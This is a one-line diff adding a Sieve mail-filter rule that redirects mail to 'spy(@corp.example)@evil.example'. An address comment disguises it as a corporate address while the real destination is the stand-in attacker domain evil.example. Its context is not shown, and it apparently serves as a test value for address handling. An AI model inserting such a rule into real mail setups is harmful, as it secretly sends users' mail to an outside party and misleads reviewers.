@@ -1,0 +1,1 @@
+redirect "spy(@corp.example)@evil.example";
